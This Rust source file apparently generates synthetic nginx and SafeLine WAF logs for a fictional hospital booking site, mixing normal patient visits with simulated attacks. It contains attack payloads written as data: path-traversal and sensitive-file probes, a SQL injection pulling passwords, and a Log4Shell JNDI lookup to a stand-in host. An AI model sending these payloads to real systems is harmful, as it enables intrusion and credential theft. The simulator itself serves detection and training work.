//! nginx combined access log and SafeLine WAF (JSON behind an RFC 5424 header).

use crate::moment::Moment;
use crate::story::Step;
use serde_json::{Value, json};

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/109.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36 MicroMessenger/8.0.47",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) MicroMessenger/8.0.47",
];
const PAGES: &[&str] = &[
    "/",
    "/dept/list",
    "/doctor/schedule?dept=0301",
    "/register/slots?date=today",
    "/report/lab/query",
    "/pay/order/status",
    "/static/app.js",
    "/static/logo.png",
    "/api/queue/position",
];
const PROBES: &[&str] = &[
    "/../../../../etc/passwd",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/wp-login.php",
    "/manager/html",
    "/register?id=1%27%20UNION%20SELECT%20password%20FROM%20t_user--",
    "/backup.sql",
    "/actuator/env",
];

/// A patient's visit to the site.
pub(super) fn nginx(m: &mut Moment<'_>) -> String {
    let (who, page, agent) = (m.outside(), m.word(PAGES), m.word(AGENTS));
    let status = if m.below(40) == 0 { 404 } else { 200 };
    let size = 180 + m.below(24_000);
    format!(
        "{who} - - [{}] \"GET {page} HTTP/1.1\" {status} {size} \"https://yuyue.example.org/\" \"{agent}\"",
        m.web()
    )
}

/// A probe or a lookup in the access log.
pub(super) fn nginx_attack(m: &mut Moment<'_>, step: Step) -> Option<String> {
    let (request, agent) = match step {
        Step::WebScan => (m.word(PROBES).to_owned(), "sqlmap/1.7"),
        Step::Jndi => ("/login?x=${jndi:ldap://203.0.113.66/a}".to_owned(), "${jndi:ldap://203.0.113.66/b}"),
        _ => return None,
    };
    Some(format!("203.0.113.66 - - [{}] \"GET {request} HTTP/1.1\" 404 153 \"-\" \"{agent}\"", m.web()))
}

fn safeline(m: &Moment<'_>, event: &Value) -> String {
    format!("<30>1 {} safeline01 /matio/mario 1 safeline_event - {event}", m.iso())
}

/// A request that the WAF let pass.
pub(super) fn waf(m: &mut Moment<'_>) -> String {
    let (src, page, agent, port) = (m.outside(), m.word(PAGES), m.word(AGENTS), m.client_port());
    let event = json!({
        "scheme": "https", "src_ip": src, "src_port": port, "socket_ip": src, "upstream_addr": m.server(1, 30),
        "req_start_time": m.at.as_millis(), "host": "yuyue.example.org", "method": "GET", "event_id": m.digest(),
        "session": "", "site_uuid": "35", "req_detector_name": "det01", "urlpath": page, "user_agent": agent,
        "referer": "", "attack_type": "-1", "risk_level": "none", "action": "allow", "dest_ip": m.server(1, 5),
        "dest_port": 443, "timestamp": m.at.as_secs(),
    });
    safeline(m, &event)
}

/// What the WAF denied.
pub(super) fn waf_alarm(m: &mut Moment<'_>, step: Step) -> Option<String> {
    let (module, rule, reason, kind, level, payload, path) = match step {
        Step::Injection => (
            "m_sqli",
            "m_sqli/1",
            "检测到 SQL 注入攻击",
            "sql_injection",
            "high",
            "1 union select password from t_user",
            "/api/login",
        ),
        Step::Jndi => (
            "m_java",
            "m_java/7",
            "检测到 Log4j 远程代码执行",
            "code_execution",
            "high",
            "${jndi:ldap://203.0.113.66/a}",
            "/login",
        ),
        _ => return None,
    };
    let event = json!({
        "scheme": "https", "src_ip": "203.0.113.66", "src_port": m.client_port(), "socket_ip": "203.0.113.66",
        "upstream_addr": m.server(1, 30), "req_start_time": m.at.as_millis(), "host": "yuyue.example.org",
        "method": "POST", "event_id": m.digest(), "session": "", "site_uuid": "35", "req_detector_name": "det01",
        "req_rule_id": rule, "req_location": "body", "req_payload": payload, "urlpath": path, "rule_id": rule,
        "module": module, "reason": reason, "payload": payload, "user_agent": "sqlmap/1.7",
        "referer": "https://yuyue.example.org/", "attack_type": kind, "risk_level": level, "action": "deny",
        "dest_ip": m.server(1, 5), "dest_port": 443, "status_code": 403, "timestamp": m.at.as_secs(),
    });
    Some(safeline(m, &event))
}
